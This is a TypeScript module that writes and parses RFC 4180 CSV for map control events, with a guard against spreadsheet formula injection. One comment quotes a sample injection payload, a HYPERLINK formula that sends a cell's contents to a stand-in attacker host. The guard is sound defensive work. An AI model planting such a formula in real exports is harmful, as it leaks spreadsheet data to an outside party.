// The control events as CSV, RFC 4180: CRLF line ends, a header row, fields quoted when they hold a comma, a
// double quote or a line break (quotes doubled). UTF-8 text; Arabic names pass through untouched.
import type { ControlEvent, Faction, Place } from '../types';

export const CSV_COLUMNS = [
  'id',
  'date',
  'alt_date',
  'place',
  'place_name',
  'place_name_ar',
  'lon',
  'lat',
  'status',
  'factions',
  'faction_names',
  'blocs',
  'confidence',
  'precision',
  'sources',
  'quotes',
  'note',
] as const;

/**
 * A cell that a spreadsheet would run as a formula (it begins with `=`, `+`, `-`, `@`, a tab or a carriage
 * return) gets a leading apostrophe, as OWASP's CSV-injection advice says, so a quote such as
 * `=HYPERLINK("http://evil.example/?"&A2,"source")` shows as text. Plain numbers (`-12.5`, a western longitude)
 * are left as they are: they cannot run.
 */
export function neutraliseFormula(v: string): string {
  if (!/^[=+\-@\t\r]/.test(v)) return v;
  if (/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(v)) return v;
  return `'${v}`;
}

export function csvField(raw: string): string {
  const v = neutraliseFormula(raw);
  return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

export interface CsvContext {
  places: ReadonlyMap<string, Place>;
  factions: readonly Faction[];
}

/**
 * One row an event. `sources` holds the cited source ids joined by `;` and `quotes` the matching quotes, one
 * a line in the same order (a quoted field may hold line breaks in RFC 4180).
 */
export function eventsToCSV(events: readonly ControlEvent[], ctx: CsvContext): string {
  const factions = new Map(ctx.factions.map((f) => [f.id, f]));
  const rows: string[][] = [[...CSV_COLUMNS]];
  for (const e of events) {
    const p = ctx.places.get(e.place);
    rows.push([
      e.id,
      e.date,
      e.altDate ?? '',
      e.place,
      p?.name ?? '',
      p?.nameAr ?? '',
      p ? String(p.lon) : '',
      p ? String(p.lat) : '',
      e.status,
      e.factions.join(';'),
      e.factions.map((f) => factions.get(f)?.name ?? f).join(';'),
      [...new Set(e.factions.map((f) => factions.get(f)?.bloc ?? ''))].join(';'),
      e.confidence,
      e.precision,
      e.citations.map((c) => c.source).join(';'),
      e.citations.map((c) => c.quote.replace(/\r?\n/g, ' ')).join('\n'),
      e.note ?? '',
    ]);
  }
  return rows.map((r) => r.map(csvField).join(',')).join('\r\n') + '\r\n';
}

/** RFC 4180 reader, the inverse of the writer: used to check round trips, and handy for scripts. */
export function parseCSV(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i++;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  if (field !== '' || row.length) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}
